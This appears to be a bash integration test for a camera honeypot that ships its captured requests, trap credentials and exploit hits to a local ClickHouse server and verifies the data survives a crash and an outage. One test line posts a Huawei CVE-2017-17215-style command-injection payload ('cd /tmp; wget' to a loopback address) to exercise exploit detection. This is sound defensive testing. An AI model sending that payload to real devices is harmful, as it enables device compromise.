#!/usr/bin/env bash
# t_clickhouse: one sensor ships to a ClickHouse server of the test's own
# (Debian's clickhouse-server on loopback), as a user with a password file.
# Traffic: pages, a stream view with its credential, a Basic login with it,
# a request with bytes that are not UTF-8, one with NUL bytes. The decoy is killed with -9 in
# the middle and restarted on the same database; ClickHouse is stopped for
# a while (the decoy goes on serving and recording) and started again. At
# the end every row of the SQLite database is in ClickHouse exactly once
# and byte for byte (ch_compare.py), the fleet totals agree, the shipper's
# counters say nothing is pending (in the counters table and the event
# log's status lines), and the watermarks are in meta.
# CH_OUTAGE_SECONDS sets the outage (5 here, 20 in the fleet run).
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/clickhouse.sh"
trap 'ch_cleanup; cleanup' EXIT
HERE="$(dirname "$0")"
OUTAGE="${CH_OUTAGE_SECONDS:-5}"

command -v clickhouse-server >/dev/null || { bad "clickhouse-server is not installed"; finish; exit 1; }
ch_start main || { bad "clickhouse starts"; finish; exit 1; }
printf 'fleet-secret\n' >"$TMP/ch-password"
chmod 600 "$TMP/ch-password"
SHIP=(--clickhouse "$CH_URL" --clickhouse-database fleet --clickhouse-user shipper
	--clickhouse-password-file "$TMP/ch-password" --clickhouse-interval 1 --clickhouse-batch 50
	--event-rate 0 --sensor-id ch-sensor-1)

# A bad configuration names its key and exits 2.
"$BIN" --clickhouse "$CH_URL" --clickhouse-database "bad-name" --check-config >/dev/null 2>"$TMP/err"
rc=$?
check "a bad clickhouse-database exits 2 ($rc)" [ "$rc" -eq 2 ]
check "a bad clickhouse-database is refused by name" grep -q 'clickhouse-database' "$TMP/err"
"$BIN" --clickhouse "ftp://127.0.0.1/" --check-config >/dev/null 2>"$TMP/err"
check "a clickhouse URL that is not http(s) is refused by name" grep -q '^camdecoy: clickhouse:' "$TMP/err"
"$BIN" --db "$TMP/x.db" --clickhouse "$CH_URL" --clickhouse-password-file "$TMP/nope" \
	--allow-root >/dev/null 2>"$TMP/err"
rc=$?
check "a missing password file exits 2 naming the key ($rc)" \
	bash -c "[ $rc -eq 2 ] && grep -q 'clickhouse-password-file' '$TMP/err'"

start_decoy "${SHIP[@]}" || { finish; exit 1; }
FIRST_DB="$DB"
cp "$TMP/decoy.log" "$TMP/decoy-1.log"
traffic() { # TAG: pages, one stream frame with its credential, a login with it
	for i in $(seq 1 30); do curl -s -o /dev/null -A "ch-$1-$i" "$BASE/view/index.shtml?n=$i"; done
	curl -s -o /dev/null -A $'ch-\xff\xfe-bytes' "$BASE/axis-cgi/jpg/image.cgi?x=$1"
	# NUL bytes in the path, the query and the User-Agent: stored whole, shipped whole
	python3 -c 'import sys
from camclient import talk
talk(sys.argv[1], b"GET /nul\x00path?q\x00%s HTTP/1.1\r\nHost: x\r\nUser-Agent: ch-nul\x00%s\r\n"
     b"Connection: close\r\n\r\n" % (sys.argv[2].encode(), sys.argv[2].encode()))' "$PORT" "$1"
	wait_sql "SELECT COUNT(*) FROM requests WHERE hex(user_agent) = hex('ch-nul' || char(0) || '$1')" 1
	# an exploit attempt with a NUL and bytes that are not UTF-8 in its payload
	printf 'cd /tmp;\0wget http://127.0.0.1:9/x\xff\xfe' |
		curl -s -o /dev/null --data-binary @- "$BASE/ctrlt/DeviceUpgrade_1?$1"
	stream_frame "$BASE/axis-cgi/mjpg/video.cgi" "$TMP/f-$1.jpg" -A "ch-watch-$1"
	wait_sql "SELECT COUNT(*) FROM views WHERE user_agent = 'ch-watch-$1' AND trap_password IS NOT NULL" 1
	local u p
	u="$(sql "SELECT trap_username FROM views WHERE user_agent = 'ch-watch-$1'")"
	p="$(sql "SELECT trap_password FROM views WHERE user_agent = 'ch-watch-$1'")"
	curl -s -o /dev/null -u "$u:$p" -A "ch-login-$1" "$BASE/axis-cgi/admin/param.cgi"
	wait_sql "SELECT COUNT(*) FROM logins WHERE user_agent = 'ch-login-$1'" 1
}
traffic a
check "rows reach ClickHouse" wait_ch "SELECT count() FROM fleet.requests WHERE user_agent = 'ch-a-30'" 1
check "exploit rows reach ClickHouse" wait_ch "SELECT count() FROM fleet.exploits WHERE rule = 'huawei-cve-2017-17215'" 1

# kill -9 mid-run, then the same database again
kill -KILL "$DECOY_PID"
wait "$DECOY_PID" 2>/dev/null
DECOY_PID=""
KEEP_DB="$FIRST_DB" start_decoy "${SHIP[@]}" --event-log "$TMP/events.jsonl" || { bad "the decoy restarts on its database"; finish; exit 1; }
traffic b

# ClickHouse away: the decoy serves and records, then catches up
ch_stop main
for i in $(seq 1 "$OUTAGE"); do
	curl -s -o /dev/null -A "ch-outage-$i" "$BASE/view/index.shtml?o=$i"
	sleep 1
done
check "the decoy served during the outage" curl -s -f -o /dev/null --max-time 2 "$BASE/"
check "failed batches are counted" wait_sql "SELECT value > 0 FROM counters WHERE name = 'ship_failed_batches'" 1
check "rows wait in the database" wait_sql "SELECT value > 0 FROM counters WHERE name = 'ship_pending_now'" 1
ch_start main || { bad "clickhouse starts again"; finish; exit 1; }
traffic c
check "the shipper catches up (nothing pending)" \
	wait_sql "SELECT value FROM counters WHERE name = 'ship_pending_now'" 0
stop_decoy
check "the clean stop shipped the last rows" grep -q 'clickhouse: .* 0 rows pending' "$TMP/decoy.log"
# the event log's status lines: the counters as committed, the shipper's too
python3 - "$TMP/events.jsonl" "$FIRST_DB" >"$TMP/status.out" 2>&1 <<'PY'
import json, sqlite3, sys
lines = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
status = [l for l in lines if l["event"] == "status"]
assert len(status) >= 2, f"{len(status)} status lines"
last = status[-1]["counters"]
db = dict(sqlite3.connect(sys.argv[2]).execute("SELECT name, value FROM counters"))
for k in ("ship_rows", "ship_batches", "ship_failed_batches", "ship_pending_now", "ship_lag_ms_now"):
    assert last[k] == db[k], f"{k}: {last[k]} in the log, {db[k]} in the database"
assert last["ship_failed_batches"] > 0 and last["ship_pending_now"] == 0 and last["ship_rows"] > 0, last
print(f"{len(status)} status lines; the last: ship_rows {last['ship_rows']}, failed batches"
      f" {last['ship_failed_batches']}, pending {last['ship_pending_now']}, as in the counters table")
PY
rc=$?
cat "$TMP/status.out"
check "the event log's last status line says what the counters table says" [ "$rc" = 0 ]

python3 "$HERE/ch_compare.py" "$CH_URL" fleet "$FIRST_DB" >"$TMP/compare.out" 2>&1
rc=$?
cat "$TMP/compare.out"
check "every row is in ClickHouse once and byte for byte; the fleet totals agree" [ "$rc" = 0 ]
lite_ua="$(sqlite3 "$FIRST_DB" "SELECT hex(user_agent) FROM requests WHERE query = 'x=a'")"
house_ua="$(ch_query "$CH_URL" "SELECT hex(user_agent) FROM fleet.requests FINAL WHERE query = 'x=a'")"
echo "a User-Agent sent with bytes FF FE: $lite_ua in SQLite, $house_ua in ClickHouse"
check "an odd User-Agent arrived byte for byte" [ -n "$lite_ua" -a "$lite_ua" = "$house_ua" ]
nul_ua="$(printf 'ch-nul\0a' | od -An -tx1 | tr -d ' \n' | tr a-f A-F)"
lite_nul="$(sqlite3 "$FIRST_DB" "SELECT hex(path) || ',' || path_len || ',' || hex(query) FROM requests WHERE hex(user_agent) = '$nul_ua'")"
house_nul="$(ch_query "$CH_URL" "SELECT concat(hex(path), ',', toString(path_len), ',', hex(query)) FROM fleet.requests FINAL WHERE hex(user_agent) = '$nul_ua'")"
echo "a request with NULs: $lite_nul in SQLite, $house_nul in ClickHouse"
check "NUL bytes arrive whole in both" [ "$lite_nul" = "2F6E756C0070617468,9,710061" -a "$lite_nul" = "$house_nul" ]
check "the watermarks are in meta" \
	[ "$(sqlite3 "$FIRST_DB" "SELECT COUNT(*) FROM meta WHERE key IN ('ship_requests', 'ship_views', 'ship_logins', 'ship_credentials', 'ship_aggregated')")" -ge 4 ]
"$REPORT" --clickhouse "$CH_URL" --clickhouse-database fleet check >"$TMP/check.out" 2>&1
rc=$?
cat "$TMP/check.out"
check "check over ClickHouse: every invariant holds ($rc)" [ "$rc" = 0 ]
check "check over ClickHouse checked the credentials" grep -q ': credentials: ok' "$TMP/check.out"
check "a sensor killed -9 has counters that cannot be compared, and check says so" \
	grep -q ': counters: not comparable' "$TMP/check.out"
# a password under a second number: check must see it
ch_query "$CH_URL" "INSERT INTO fleet.credentials SELECT sensor, db_id, seq + 1000000, username, password, view_id, shown_at FROM fleet.credentials FINAL LIMIT 1" >/dev/null
"$REPORT" --clickhouse "$CH_URL" --clickhouse-database fleet check >"$TMP/check.out" 2>&1
rc=$?
check "check over ClickHouse finds a password issued twice ($rc)" \
	bash -c "[ $rc = 1 ] && grep -q 'credentials unique: DISAGREE' '$TMP/check.out'"
dups="$(ch_query "$CH_URL" "SELECT count() - uniqExact(id) FROM fleet.requests")"
echo "requests resent (copies before merging, dropped by FINAL): $dups"
check "counters reached ClickHouse" \
	[ "$(ch_query "$CH_URL" "SELECT count() > 0 FROM fleet.counters FINAL WHERE name = 'ship_rows'")" = 1 ]
finish
